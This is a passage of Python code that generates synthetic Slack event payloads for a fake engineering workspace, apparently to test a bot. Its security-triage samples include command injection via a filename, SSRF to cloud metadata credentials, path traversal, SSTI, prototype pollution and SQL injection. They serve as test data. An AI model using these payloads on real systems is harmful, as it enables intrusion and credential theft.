     "GET /wp-login.php HTTP/1.1\nGET /server-status HTTP/1.1"),
    ("SSTI probe in the feedback form, our templates autoescape so 🤷", "name={{7*7}}&comment=${7*7}"),
    ("someone put this in a filename field :eyes:", "report.pdf; cat /etc/passwd"),
    ("the WAF alert from last night, decoded:", "/cgi-bin/.%2e/.%2e/.%2e/bin/sh"),
    ("Dependabot: prototype pollution in lodash < 4.17.21, the PoC is basically",
     "_.merge({}, JSON.parse('{\"__proto__\": {\"polluted\": true}}'))"),
    ("CVE-2024-3094 (xz): please check your base images", "xz --version\nxz (XZ Utils) 5.4.1\nliblzma 5.4.1"),
    ("false positive? a customer's company name tripped the rule", "company=O'Reilly & Sons; Ltd."),
    ("blocked request body from the partner integration, can someone look?",
     "{\"query\": \"select id from products where name like '%shoe%'\"}"),
    ("reminder: never paste tokens here. if you did, rotate it and tell #security :pray:",
     "export GITHUB_TOKEN=ghp_************************************"),
    ("this came in through the contact form, spam bot most likely",
     "<a href=\"http://cheap-pills.example/\">click</a> <a href=\"http://spam.example/\">here</a>"),
    ("SSRF attempt against the webhook tester:", "url=http://169.254.169.254/latest/meta-data/iam/"
     "security-credentials/"),
    ("XFF spoofing attempt, we only trust the LB so it's harmless", "X-Forwarded-For: 127.0.0.1, %ip%"),
    ("rate limiter caught a credential stuffing run:", "%ip% POST /api/v1/login 429 x 4812 in 10m"),
    ("for the incident doc, the payload they tried:", "'; DROP TABLE users; --"),
]
BOT_ALERTS = [
    ("[FIRING:1] HighErrorRate %svc% (%env%)", "*Summary:* 5xx rate above 5% for 10m\n*Expr:* `sum(rate("
     "http_requests_total{service=\"%svc%\",status=~\"5..\"}[5m])) > 0.05`\n*Runbook:* {url}", "danger"),
    ("Build #%big% failed on %branch%", "```FAILED tests/test_billing.py::test_refund_rounding - assert 1999 == "
     "2000```\nCommit `%sha%` by %user%", "danger"),
    ("Deployed %svc% %ver% to %env%", "by %user% · diff <https://github.com/acme/%repo%/compare/%sha%...%sha2%|"
     "%sha%...%sha2%>", "good"),
    ("TypeError: Cannot read properties of undefined (reading 'map')",
     "*web-frontend* · `src/components/OrderList.tsx` in OrderList\n%n% events, %n2% users", "warning"),
    ("Dependabot opened #%pr%", "Bump `axios` from 1.6.8 to 1.7.2 in /web", "#439FE0"),
    ("Monitor triggered: p99 latency on %svc%", "p99 = %ms% ms > 1500 ms (threshold)\n`avg(last_5m):p99:"
     "trace.http.request{service:%svc%,env:%env%} > 1.5`", "warning"),
    ("Incident #%n% resolved", "Checkout 502s — duration 42m, root cause: connection pool exhausted "
     "(`max_connections=100`)", "good"),
    ("Backup finished", "`pg_dump` of app on %host%: 14.2 GiB in 11m 02s → s3://acme-%env%-backups/postgres/", "good"),
    ("Certificate expiring", "*.acme.io expires in 14 days (%ymd%). `certbot renew --dry-run` passed.", "warning"),
    ("Nightly ETL", "rows loaded: %big% · rejected: %n% · `SELECT count(*) FROM staging.rejects WHERE batch = "
     "'%ymdc%'`", "#cccccc"),
]


TRACE = re.compile(r"Traceback|Error:|Exception|panic|error\[E|FAIL|ERR!|ERROR|Uncaught|FATAL|Caused by")
BOT_NAMES = ["Alertmanager", "GitHub Actions", "Deploy Bot", "Sentry", "dependabot", "Datadog", "Incident Bot",
             "backup-cron", "certbot", "Airflow"]


class Gen:
    """The workspace's state (people, channels, clock) and the content generators, on one seeded Random."""

    def __init__(self, seed: int = SEED) -> None:
        self.r = random.Random(seed)
        self.clock = EPOCH
        self.team = "T04" + self._alnum(7)
        self.domain = "acme-eng"
        self.app = "A05" + self._alnum(8)
        self.bot_user = "U05" + self._alnum(8)
        self.bot_id = "B05" + self._alnum(8)
        self.users = [("U0" + self._alnum(9), handle, name) for handle, name in PEOPLE]
        _ALL_USERS[:] = self.users
        self.channels = [("C0" + self._alnum(9), name) for name in CHANNELS]
        self.used_ids: set[str] = set()
        self.n = 0

    # -- small random values --
    def _alnum(self, k: int) -> str:
        return "".join(self.r.choice(string.ascii_uppercase + string.digits) for _ in range(k))

    def _hex(self, k: int) -> str:
        return "".join(self.r.choice("0123456789abcdef") for _ in range(k))

    def unique(self, make: Callable[[], str]) -> str:
        while True:
            value = make()
            if value not in self.used_ids:
                self.used_ids.add(value)
                return value

    def tick(self) -> int:
        self.clock += self.r.randint(1, 45)
        return self.clock

    def ts(self, at: int | None = None) -> str:
        return f"{self.clock if at is None else at}.{self.r.randint(0, 999999):06d}"

    def user(self) -> tuple[str, str, str]:
        return self.r.choice(self.users)

    def channel(self) -> tuple[str, str]:
        return self.r.choice(self.channels)

    def ip(self) -> str:
        kind = self.r.random()
        if kind < 0.5:
            return f"10.{self.r.randint(0, 40)}.{self.r.randint(0, 255)}.{self.r.randint(1, 254)}"
        if kind < 0.8:
            net = self.r.choice(["203.0.113", "198.51.100", "192.0.2"])
            return f"{net}.{self.r.randint(1, 254)}"
        return f"{self.r.choice([31, 45, 85, 91, 146, 185, 188, 212])}.{self.r.randint(0, 255)}." \
               f"{self.r.randint(0, 255)}.{self.r.randint(1, 254)}"

    def ymd(self) -> str:
        return f"2024-{self.r.randint(1, 6):02d}-{self.r.randint(1, 28):02d}"

    def clf(self) -> str:
        return f"{self.r.randint(1, 28):02d}/Jun/2024:{self.r.randint(0, 23):02d}:{self.r.randint(0, 59):02d}:" \
               f"{self.r.randint(0, 59):02d} +0000"

    # -- %key% filling --
    def fill(self, template: str) -> str:
        cache: dict[str, str] = {}
        r = self.r

        def table() -> str:
            if "table" not in cache:
                cache["table"] = r.choice(list(TABLES))
            return cache["table"]

        gens: dict[str, Callable[[], str]] = {
            "svc": lambda: r.choice(SERVICES), "table": table, "col": lambda: r.choice(TABLES[table()]),
            "ns": lambda: r.choice(NAMESPACES), "ip": self.ip, "host": lambda: r.choice(HOSTS),
            "pod": lambda: f"{r.choice(SERVICES)}-{self._hex(10)}-{self._alnum(5).lower()}",
            "ver": lambda: f"v{r.randint(1, 4)}.{r.randint(0, 30)}.{r.randint(0, 12)}",
            "ymd": self.ymd, "ymdc": lambda: self.ymd().replace("-", ""), "clf": self.clf,
            "n": lambda: str(r.randint(2, 250)), "big": lambda: str(r.randint(10_000, 9_000_000)),
            "ms": lambda: f"{r.uniform(0.5, 9000):.3f}", "sec": lambda: str(r.randint(3, 95)),
            "port": lambda: str(r.choice([5432, 6379, 8080, 8000, 3000, 9090, 443, 9200, 5672])),
            "id": lambda: str(r.randint(100, 999_999)),
            "email": lambda: f"{r.choice(PEOPLE)[0]}@{r.choice(['example.com', 'acme.io', 'example.org'])}",
            "branch": lambda: r.choice(["fix/", "feat/", "chore/"]) + r.choice(
                ["PAY-4512-refund-retries", "search-facets", "bump-deps", "pg16", "slack-unfurls", "rate-limits"]),
            "sha": lambda: self._hex(7), "pr": lambda: str(r.randint(1000, 9999)),
            "ticket": lambda: f"{r.choice(ISSUE_KEYS)}-{r.randint(10, 5999)}",
            "region": lambda: r.choice(REGIONS), "repo": lambda: r.choice(REPOS),
            "user": lambda: r.choice(PEOPLE)[0], "env": lambda: r.choice(["prod", "staging", "dev", "sandbox"]),
            "hex": lambda: self._hex(r.choice([8, 12, 24])),
        }

        def sub(m: re.Match[str]) -> str:
            base, key = m.group(1), m.group(1) + m.group(2)
            if base not in gens:
                return m.group(0)
            if key not in cache:
                cache[key] = gens[base]()
            return cache[key]

        return re.sub(r"%([a-z]+)(\d?)%", sub, template)

    # -- links --
    def url(self) -> tuple[str, str]:
        r = self.r
        choice = r.randrange(14)
        if choice == 0:
            svc = r.choice(SERVICES)
            return (f"https://grafana.acme.io/d/{self._alnum(9).lower()}/api-latency?orgId=1&from=now-6h&to=now"
                    f"&var-service={svc}&var-quantile=0.99", "Grafana")
        if choice == 1:
            return ("https://kibana.acme.io/app/discover#/?_g=(time:(from:now-15m,to:now))&_a=(query:(language:"
                    f"kuery,query:'status:502 and service:{r.choice(SERVICES)}'))", "Kibana")
        if choice == 2:
            repo, pr = r.choice(REPOS), r.randint(1000, 9999)
            return f"https://github.com/acme/{repo}/pull/{pr}", f"{repo}#{pr}"
        if choice == 3:
            key = f"{r.choice(ISSUE_KEYS)}-{r.randint(10, 5999)}"
            return f"https://acme.atlassian.net/browse/{key}", key
        if choice == 4:
            return (f"https://acme.sentry.io/issues/{r.randint(4_000_000, 5_999_999)}/?project={r.randint(2, 40)}"
                    "&query=is%3Aunresolved&referrer=slack", "Sentry issue")
        if choice == 5:
            return (f"https://docs.google.com/document/d/1{self._alnum(30)}/edit#heading=h.{self._alnum(6).lower()}",
                    "design doc")
        if choice == 6:
            return (f"https://app.datadoghq.eu/apm/services/{r.choice(SERVICES)}/operations/http.request/resources"
                    "?env=prod&start=1719040000000&end=1719043600000", "Datadog")
        if choice == 7:
            return (f"https://acme-{r.choice(['prod', 'staging'])}-exports.s3.eu-west-1.amazonaws.com/reports/"
                    f"{self.ymd()}.csv?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Date=20240622T090000Z"
                    f"&X-Amz-Expires=3600&X-Amz-SignedHeaders=host&X-Amz-Signature={self._hex(64)}", "export")
        if choice == 8:
            return ("https://stackoverflow.com/questions/1109061/insert-on-duplicate-update-in-postgresql",
                    "Stack Overflow")
        if choice == 9:
            return (f"https://github.com/acme/{r.choice(REPOS)}/blob/main/app/services/billing.py#L{r.randint(10, 400)}"
                    f"-L{r.randint(401, 480)}", "billing.py")
        if choice == 10:
            return ("https://www.postgresql.org/docs/16/sql-createindex.html#SQL-CREATEINDEX-CONCURRENTLY",
                    "CREATE INDEX CONCURRENTLY")
        if choice == 11:
            return (f"https://acme.pagerduty.com/incidents/Q{self._alnum(13)}", "PagerDuty")
        if choice == 12:
            return (f"https://meet.google.com/{self._alnum(3).lower()}-{self._alnum(4).lower()}-"
                    f"{self._alnum(3).lower()}", "meet")
        return (f"https://ci.acme.io/job/{r.choice(REPOS)}/job/main/{r.randint(100, 9999)}/console", "build log")

    # -- markup templates -> parts --
    def parse(self, template: str) -> list[Part]:
        text = self.fill(template)
        parts: list[Part] = []
        pos = 0
        token = re.compile(r"\{@\}|\{#\}|\{link\}|\{url\}|\{!(here|channel)\}|`([^`\n]+)`|\*([^*\n]+)\*|"
                           r":([a-z][a-z0-9_+\-]*|100|\+1):")
        for m in token.finditer(text):
            if m.start() > pos:
                parts.append(("t", text[pos:m.start()], None))
            tok = m.group(0)
            if tok == "{@}":
                parts.append(("user", self.user()[0]))
            elif tok == "{#}":
                parts.append(("chan", *self.channel()))
            elif tok == "{link}":
                parts.append(("link", *self.url()))
            elif tok == "{url}":
                parts.append(("link", self.url()[0], None))
            elif m.group(1):
                parts.append(("bcast", m.group(1)))
            elif m.group(2) is not None:
                parts.append(("code", m.group(2)))
            elif m.group(3) is not None:
                parts.append(("t", m.group(3), {"bold": True}))
            else:
                parts.append(("emoji", m.group(4)))
            pos = m.end()
        if pos < len(text):
            parts.append(("t", text[pos:], None))
        return parts

    # -- code pools --
    def snippet(self, kind: str) -> str:
        r = self.r
        if kind == "sql":
            return self.fill(r.choice(SQL))
        if kind == "shell":
            picked = r.sample(SHELL, r.choice([1, 1, 1, 2, 3]))
            if len(picked) > 1 or r.random() < 0.3:
                return "\n".join("$ " + self.fill(c) if not c.startswith("$") else self.fill(c) for c in picked)
            return self.fill(picked[0])
        if kind == "code":
            pool = r.choice([PY, PY, JS, JS, GO, JAVA, PHP, RUBY, RUST, MARKUP])
            return self.fill(r.choice(pool))
        if kind == "trace":
            pool = r.choice([PY, JS, GO, JAVA, RUST])
            traces = [t for t in pool if TRACE.search(t)]
            return self.fill(r.choice(traces or pool))
        if kind == "config":
            return self.fill(r.choice(CONFIG))
        if kind == "log":
            return "\n".join(self.log_line() for _ in range(r.randint(1, 8)))
        if kind == "regex":
            return r.choice(REGEX)
        raise ValueError(kind)

    def log_line(self) -> str:
        r = self.r
        kind = r.randrange(9)
        path = self.fill(r.choice(API_PATHS))
        method = r.choice(["GET", "GET", "GET", "POST", "PUT", "DELETE", "PATCH", "HEAD", "OPTIONS"])
        status = r.choice([200, 200, 200, 201, 204, 301, 304, 400, 401, 403, 404, 429, 499, 500, 502, 503, 504])
        ua = r.choice(USER_AGENTS)
        if kind <= 2:
            ref = r.choice(["-", "https://acme.io/", "https://www.google.com/", "https://app.acme.io/orders?page=2"])
            return (f'{self.ip()} - - [{self.clf()}] "{method} {path} HTTP/1.1" {status} {r.randint(0, 90000)} '
                    f'"{ref}" "{ua}" rt={r.uniform(0, 30):.3f}')
        if kind == 3:
            return (f"2024/06/22 {r.randint(0, 23):02d}:{r.randint(0, 59):02d}:{r.randint(0, 59):02d} [error] "
                    f"{r.randint(20, 60)}#{r.randint(20, 60)}: *{r.randint(1000, 999999)} upstream timed out (110: "
                    f"Connection timed out) while reading response header from upstream, client: {self.ip()}, "
                    f'server: api.acme.io, request: "{method} {path} HTTP/1.1", upstream: '
                    f'"http://{self.ip()}:8000{path}", host: "api.acme.io"')
        if kind == 4:
            return json.dumps({"level": r.choice(["error", "warn", "info"]), "ts": f"2024-06-22T10:{r.randint(10, 59)}"
                               f":{r.randint(10, 59)}.{r.randint(100, 999)}Z", "logger": r.choice(SERVICES),
                               "msg": r.choice(["charge failed", "retrying webhook", "slow query", "cache miss",
                                                "request finished"]),
                               "path": path, "status": status, "duration_ms": r.randint(1, 30000),
                               "request_id": self._hex(16)})
        if kind == 5:
            return (f"Jun 22 {r.randint(0, 23):02d}:{r.randint(0, 59):02d}:{r.randint(0, 59):02d} "
                    f"{r.choice(HOSTS).split('.')[0]} kernel: [{r.randint(10000, 999999)}.{r.randint(100, 999)}] "
                    f"Out of memory: Killed process {r.randint(1000, 60000)} (python3) total-vm:4181208kB, "
                    f"anon-rss:2093312kB")
        if kind == 6:
            return (f"2024-06-22 10:{r.randint(10, 59)}:{r.randint(10, 59)}.{r.randint(100, 999)} UTC "
                    f"[{r.randint(1000, 60000)}] LOG:  duration: {r.uniform(500, 60000):.3f} ms  statement: "
                    + self.fill(r.choice(SQL_ONELINERS)))
        if kind == 7:
            return (f"level=warn ts=2024-06-22T10:{r.randint(10, 59)}:00Z caller=client.go:{r.randint(10, 500)} "
                    f"component=client msg=\"request failed\" method={method} url=\"https://{r.choice(HOSTS)}{path}\" "
                    f"status={status} err=\"{self.fill(r.choice(ERRORS))}\"")
        return (f"{r.choice(['Warning', 'Normal'])}  {r.choice(['BackOff', 'Unhealthy', 'Killing', 'Pulled'])}  "
                f"pod/{self.fill('%pod%')}  Readiness probe failed: Get \"http://{self.ip()}:8080/readyz\": "
                "context deadline exceeded (Client.Timeout exceeded while awaiting headers)")

    # -- messages as parts --
    def message_parts(self) -> list[Part]:
        """One human message: chat, a code paste, inline code, a quote, a list or a security triage."""
        r = self.r
        shape = r.choices(["chat", "code", "inline", "quote", "list", "security", "path", "error"],
                          [22, 46, 9, 5, 5, 6, 4, 3])[0]
        if shape == "chat":
            parts = self.parse(r.choice(CHAT))
            if r.random() < 0.25:
                parts += [("t", " ", None)] + self.parse(r.choice(CHAT))
            return parts
        if shape == "code":
            kind = r.choices(["sql", "shell", "code", "trace", "config", "log", "regex"], [26, 22, 18, 12, 10, 9, 3])[0]
            parts = self.parse(r.choice(INTROS[kind]))
            code = self.snippet(kind)
            if r.random() < 0.15 and kind != "log":
                parts.append(("t", "\n" + code, None))          # pasted without a code block
            else:
                parts.append(("pre", code))
            outro = r.choice(OUTROS)
            if outro:
                parts += ([] if parts[-1][0] == "pre" else [("t", "\n", None)]) + self.parse(outro)
            return parts
        if shape == "inline":
            one = self.fill(r.choice(SQL_ONELINERS + SHELL_ONELINERS))
            template = r.choice(["try `{one}` first", "what does `{one}` say?", "I usually run `{one}` for that",
                                 "`{one}` returns nothing on %env% :thinking_face:", "`{one}` → timeout after 30s",
                                 "mach mal `{one}`", "essaie `{one}`", "prueba con `{one}`", "`{one}` で確認できます",
                                 "用 `{one}` 看一下", "попробуй `{one}`"])
            return self.parse(template.replace("{one}", one.replace("`", "'")))
        if shape == "quote":
            quoted = self.parse(r.choice(CHAT + ["the migration will lock `%table%` for a few seconds",
                                                 "we should never run `DROP` on prod without a ticket",
                                                 "retry with exponential backoff, max 5 attempts"]))
            return [("quote", quoted)] + self.parse(r.choice(["agreed :100:", "not sure about this one",
                                                              "{@} what do you think?", "+1, let's do it",
                                                              "this aged well :joy:", "source: {link}"]))
        if shape == "list":
            items = [self.parse(r.choice(["run `%svc%` migrations", "bump `%svc%` to %ver%", "check {link}",
                                          "rotate the `%svc%` DB password", "update the runbook in {#}",
                                          "verify `SELECT count(*) FROM %table%` matches",
                                          "drain %host% with `kubectl drain`", "announce in {#} :mega:",
                                          "revert %sha% if p99 > 2s", "Logs prüfen", "vérifier les alertes",
                                          "revisar el dashboard {link}", "ダッシュボード確認", "通知客户"]))
                     for _ in range(r.randint(2, 6))]
            head = self.parse(r.choice(["*Deploy checklist for %svc% %ver%:*", "Steps to reproduce:", "TODO today:",
                                        "Action items from the postmortem:", "Plan for the maintenance window:"]))
            return head + [("list", r.choice(["bullet", "ordered"]), items)]
        if shape == "security":
            intro, suspicious = r.choice(SECURITY)
            parts = self.parse(intro)
            parts.append(("pre", self.fill(suspicious)))
            if r.random() < 0.5:
                parts += self.parse(r.choice(["blocked, no action needed", "{@} can you add it to {#}?",
                                              "ticket: {link}", "I'll add it to the weekly security review",
                                              "source IP is already on the deny list", "all returned 403 :shield:"]))
            return parts
        if shape == "path":
            path = self.fill(r.choice(PATHS))
            return self.parse(r.choice(["the file is in `{p}`", "check `{p}` on %host%", "it reads `{p}` at startup",
                                        "can you paste `{p}`?", "`{p}` is missing in the image",
                                        "Pfad: `{p}`", "le fichier est dans `{p}`"]).replace("{p}", path))
        error = self.fill(r.choice(ERRORS))
        template = r.choice(["anyone seen `{e}` before?", "getting `{e}` from %svc% :sob:", "{e}",
                             "`{e}` again on %env%", "%svc% → {e}"])
        return self.parse(template.replace("{e}", error.replace("`", "'")))


# ---- rendering -------------------------------------------------------------------------------------------

def render_inline(part: Part) -> str:
    kind = part[0]
    if kind == "t":
        text, style = escape(part[1]), part[2]
        return f"*{text}*" if style and style.get("bold") else text
    if kind == "code":
        return f"`{escape(part[1])}`"
    if kind == "user":
        return f"<@{part[1]}>"
    if kind == "chan":
        return f"<#{part[1]}|{part[2]}>"
    if kind == "link":
        url = escape(part[1])
        return f"<{url}|{part[2]}>" if part[2] else f"<{url}>"
    if kind == "emoji":
        return f":{part[1]}:"
    if kind == "bcast":
        return f"<!{part[1]}>"
    raise ValueError(kind)


def plain_text(parts: list[Part]) -> str:
    """What a person typed into a plain-text box: mentions as @handle, links as URLs, no escaping."""
    out = ""
    for part in parts:
        kind = part[0]
        if kind == "t":
            out += part[1]
        elif kind == "code":
            out += f"`{part[1]}`"
        elif kind == "user":
            out += "@" + next((h for u, h, _ in _ALL_USERS if u == part[1]), "someone")
        elif kind == "chan":
            out += "#" + part[2]
        elif kind == "link":
            out += part[1]
        elif kind == "emoji":
            out += f":{part[1]}:"
        elif kind == "bcast":
            out += "@" + part[1]
    return out


_ALL_USERS: list[tuple[str, str, str]] = []


def render_text(parts: list[Part]) -> str:
    out = ""
    for part in parts:
        kind = part[0]
        if kind == "pre":
            out += ("\n" if out and not out.endswith("\n") else "") + f"```{escape(part[1])}```\n"
        elif kind == "quote":
            lines = "".join(render_inline(p) for p in part[1]).split("\n")
            out += ("\n" if out and not out.endswith("\n") else "") + "\n".join("&gt; " + ln for ln in lines) + "\n"
        elif kind == "list":
            rows = ["".join(render_inline(p) for p in item) for item in part[2]]
            marks = ["• "] * len(rows) if part[1] == "bullet" else [f"{i}. " for i in range(1, len(rows) + 1)]
            out += ("\n" if out and not out.endswith("\n") else "") + "\n".join(m + r for m, r in zip(marks, rows,
                                                                                                      strict=True))
        else:
            out += render_inline(part)
    return out.strip("\n")


def element(part: Part) -> dict[str, Any]:
    kind = part[0]
    if kind == "t":
        el: dict[str, Any] = {"type": "text", "text": part[1]}
        if part[2]:
            el["style"] = part[2]
        return el
    if kind == "code":
        return {"type": "text", "text": part[1], "style": {"code": True}}
    if kind == "user":
        return {"type": "user", "user_id": part[1]}
    if kind == "chan":
        return {"type": "channel", "channel_id": part[1]}
    if kind == "link":
        return {"type": "link", "url": part[1], **({"text": part[2]} if part[2] else {})}
    if kind == "emoji":
        uni = EMOJI.get(part[1])
        return {"type": "emoji", "name": part[1], **({"unicode": uni} if uni else {})}
    if kind == "bcast":
        return {"type": "broadcast", "range": part[1]}
    raise ValueError(kind)


def render_blocks(parts: list[Part], block_id: str) -> list[dict[str, Any]]:
    elements: list[dict[str, Any]] = []
    section: list[dict[str, Any]] = []

    def flush() -> None:
        if section:
            elements.append({"type": "rich_text_section", "elements": list(section)})
            section.clear()

    for part in parts:
        kind = part[0]
        if kind == "pre":
            flush()
            elements.append({"type": "rich_text_preformatted", "elements": [{"type": "text", "text": part[1]}],
                             "border": 0})
        elif kind == "quote":
            flush()
            elements.append({"type": "rich_text_quote", "elements": [element(p) for p in part[1]]})
        elif kind == "list":
            flush()
            elements.append({"type": "rich_text_list", "style": part[1], "indent": 0, "border": 0,
                             "elements": [{"type": "rich_text_section", "elements": [element(p) for p in item]}
                                          for item in part[2]]})
        else:
            section.append(element(part))
    flush()
    return [{"type": "rich_text", "block_id": block_id, "elements": elements}]


# ---- requests --------------------------------------------------------------------------------------------

def slack_headers(ts: int, content_type: str) -> dict[str, str]:
    return {"User-Agent": SLACK_UA, "Accept": "*/*", "Accept-Encoding": "gzip,deflate", "Content-Type": content_type,
            "X-Slack-Request-Timestamp": str(ts), "X-Slack-Signature": "v0=" + "0" * 64}


class Builder(Gen):
    """Slack's requests around the generated content."""

    def block_id(self) -> str:
        size = self.r.choice([4, 5])
        return "".join(self.r.choice(string.ascii_letters + string.digits + "+/=") for _ in range(size))

    def client_msg_id(self) -> str:
        h = self._hex(32)
        return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-{self.r.choice('89ab')}{h[17:20]}-{h[20:]}"

    def human_message(self, user: str, ts: str, channel: str | None = None) -> tuple[dict[str, Any], list[Part]]:
        parts = self.message_parts()
        msg: dict[str, Any] = {"user": user, "type": "message", "ts": ts, "client_msg_id": self.client_msg_id(),
                               "text": render_text(parts), "team": self.team,
                               "blocks": render_blocks(parts, self.block_id())}
        if channel:
            msg["channel"] = channel
        return msg, parts

    def envelope(self, event: dict[str, Any], at: int) -> dict[str, Any]:
        event_id = self.unique(lambda: "Ev0" + self._alnum(self.r.choice([8, 9, 10])))
        body: dict[str, Any] = {
            "token": "Jhj5dZrVaK7ZwHHjRyZWjbDl", "team_id": self.team, "context_team_id": self.team,
            "context_enterprise_id": None, "api_app_id": self.app, "event": event, "type": "event_callback",
            "event_id": event_id, "event_time": at,
            "authorizations": [{"enterprise_id": None, "team_id": self.team, "user_id": self.bot_user,
                                "is_bot": True, "is_enterprise_install": False}],
            "is_ext_shared_channel": False,
            "event_context": "4-" + self._alnum(40).lower(),
        }
        return body

    def event_record(self, event: dict[str, Any], at: int) -> dict[str, Any]:
        body = self.envelope(event, at)
        rec = _json("/slack/events", body)
        if self.r.random() < 0.3:                       # some deliveries \u-escape non-ASCII
            rec["body"] = json.dumps(body, ensure_ascii=True)
        if self.r.random() < 0.2:                       # and some use compact separators
            rec["body"] = json.dumps(body, ensure_ascii=False, separators=(",", ":"))
        rec["headers"] = slack_headers(at, "application/json")
        return rec

    # -- Events API --
    def ev_message(self, channel_type: str = "channel") -> dict[str, Any]:
        at = self.tick()
        uid = self.user()[0]
        if channel_type == "im":
            channel = "D0" + self._alnum(9)
        else:
            channel = self.channel()[0] if channel_type == "channel" else "G0" + self._alnum(9)
        msg, _ = self.human_message(uid, self.ts(at))
        event = {**msg, "channel": channel, "event_ts": msg["ts"], "channel_type": channel_type}
        if channel_type == "im" and self.r.random() < 0.35:     # a plain command to the bot
            event["text"] = self.r.choice(["weather", f"weather in {self.r.choice(CITIES)}", "help", "login",
                                           "forget location", "remember location " + self.r.choice(CITIES)])
            event["blocks"] = render_blocks([("t", event["text"], None)], self.block_id())
        if self.r.random() < 0.3:
            event["thread_ts"] = f"{at - self.r.randint(60, 86400)}.{self.r.randint(0, 999999):06d}"
            event["parent_user_id"] = self.user()[0]
        return self.event_record(event, at)

    def ev_app_mention(self) -> dict[str, Any]:
        at = self.tick()
        uid = self.user()[0]
        msg, parts = self.human_message(uid, self.ts(at))
        lead: list[Part] = [("user", self.bot_user), ("t", " ", None)]
        if self.r.random() < 0.4:
            city = self.r.choice(CITIES)
            lead += self.parse(self.r.choice([f"weather {city} ", "help ", "can you summarize this? ",
                                              f"remember location {city} ", "translate: "]))
        parts = lead + parts
        msg["text"], msg["blocks"] = render_text(parts), render_blocks(parts, self.block_id())
        event = {**msg, "type": "app_mention", "channel": self.channel()[0], "event_ts": msg["ts"]}
        return self.event_record(event, at)

    def ev_message_changed(self) -> dict[str, Any]:
        at = self.tick()
        uid = self.user()[0]
        orig_ts = self.ts(at - self.r.randint(5, 3600))
        old, parts = self.human_message(uid, orig_ts)
        if self.r.random() < 0.5:
            new_parts = parts + self.parse(self.r.choice([" (edited: typo)", " — fixed the query", " :point_up:",
                                                          "\n*edit:* it was the index", " nvm, found it"]))
        else:
            new_parts = self.message_parts()
        new = {**old, "text": render_text(new_parts), "blocks": render_blocks(new_parts, old["blocks"][0]["block_id"]),
               "edited": {"user": uid, "ts": self.ts(at)}, "source_team": self.team, "user_team": self.team}
        channel, now = self.channel()[0], self.ts(at)
        event = {"type": "message", "subtype": "message_changed", "message": new, "previous_message": old,
                 "channel": channel, "hidden": True, "ts": now, "event_ts": now,
                 "channel_type": "channel"}
        return self.event_record(event, at)

    def ev_message_deleted(self) -> dict[str, Any]:
        at = self.tick()
        old, _ = self.human_message(self.user()[0], self.ts(at - self.r.randint(5, 7200)))
        now = self.ts(at)
        event = {"type": "message", "subtype": "message_deleted", "hidden": True, "deleted_ts": old["ts"],
                 "channel": self.channel()[0], "previous_message": old, "ts": now, "event_ts": now,
                 "channel_type": self.r.choice(["channel", "group"])}
        return self.event_record(event, at)

    def ev_thread_broadcast(self) -> dict[str, Any]:
        at = self.tick()
        uid = self.user()[0]
        channel = self.channel()[0]
        root_ts = self.ts(at - self.r.randint(60, 20000))
        root, _ = self.human_message(self.user()[0], root_ts)
        root.update({"thread_ts": root_ts, "reply_count": self.r.randint(1, 30), "reply_users_count":
                     self.r.randint(1, 6), "latest_reply": self.ts(at), "is_locked": False, "subscribed": False})
        msg, _ = self.human_message(uid, self.ts(at))
        event = {**msg, "subtype": "thread_broadcast", "thread_ts": root_ts, "root": root, "channel": channel,
                 "event_ts": msg["ts"], "channel_type": "channel"}
        return self.event_record(event, at)

    def ev_me_message(self) -> dict[str, Any]:
        at = self.tick()
        text = self.fill(self.r.choice(["is deploying %svc% %ver% :rocket:", "is out for lunch :ramen:",
                                        "is on call this week", "is heads-down on the migration",
                                        "está en una reunión", "ist im Urlaub bis Montag :palm_tree:",
                                        "は今日在宅です", "is running `VACUUM FULL` on staging, expect slowness"]))
        now = self.ts(at)
        event = {"type": "message", "subtype": "me_message", "text": escape(text), "user": self.user()[0],
                 "ts": now, "channel": self.channel()[0], "event_ts": now, "channel_type": "channel"}
        return self.event_record(event, at)

    def ev_bot_message(self) -> dict[str, Any]:
        at = self.tick()
        pick = self.r.randrange(len(BOT_ALERTS))
        title, body, color = BOT_ALERTS[pick]
        parts = self.parse(body)
        title_f = self.fill(title)
        name = BOT_NAMES[pick]
        now = self.ts(at)
        attachment: dict[str, Any] = {
            "id": 1, "color": color.lstrip("#") if color.startswith("#") else color, "fallback": escape(title_f),
            "title": escape(title_f), "title_link": self.url()[0], "text": render_text(parts),
            "footer": name, "ts": at, "mrkdwn_in": ["text", "pretext"],
        }
        if self.r.random() < 0.5:
            attachment["fields"] = [{"title": "Environment", "value": self.r.choice(["prod", "staging"]),
                                     "short": True},
                                    {"title": "Service", "value": self.r.choice(SERVICES), "short": True}]
        event: dict[str, Any] = {"type": "message", "subtype": "bot_message", "text": "", "username": name,
                                 "bot_id": "B0" + self._alnum(9), "icons": {"image_48": "https://avatars.slack-edge"
                                 f".com/2024-01-10/{self.r.randint(10**11, 10**12)}_{self._hex(20)}_48.png"},
                                 "attachments": [attachment], "ts": now, "channel": self.channel()[0],
                                 "event_ts": now, "channel_type": "channel"}
        if self.r.random() < 0.4:
            event["blocks"] = [{"type": "section", "block_id": self.block_id(),
                                "text": {"type": "mrkdwn", "text": f"*{escape(title_f)}*\n{render_text(parts)}",
                                         "verbatim": False}}]
        return self.event_record(event, at)

    def ev_file_share(self) -> dict[str, Any]:
        at = self.tick()
        uid = self.user()[0]
        kind = self.r.choice(["snippet", "snippet", "snippet", "image", "pdf"])
        file_id = self.unique(lambda: "F0" + self._alnum(9))
        base: dict[str, Any] = {"id": file_id, "created": at, "timestamp": at, "user": uid, "user_team": self.team,
                                "editable": kind == "snippet", "is_external": False, "external_type": "",
                                "is_public": True, "public_url_shared": False, "display_as_bot": False,
                                "username": "", "has_rich_preview": False, "file_access": "visible"}
        if kind == "snippet":
            lang, ext = self.r.choice([("sql", "sql"), ("shell", "sh"), ("python", "py"), ("javascript", "js"),
                                       ("yaml", "yaml"), ("text", "log"), ("go", "go"), ("java", "java"),
                                       ("php", "php"), ("json", "json"), ("typescript", "ts"), ("ruby", "rb")])
            content = {"sql": "sql", "shell": "shell", "text": "log", "yaml": "config", "json": "config"}.get(lang)
            pool = {"python": PY, "javascript": JS, "typescript": JS, "go": GO, "java": JAVA, "php": PHP,
                    "ruby": RUBY}.get(lang, PY)
            code = self.snippet(content) if content else self.fill(self.r.choice(pool))
            if self.r.random() < 0.4:
                code = code + "\n\n" + (self.snippet(content) if content else self.fill(self.r.choice(pool)))
            lines = code.split("\n")
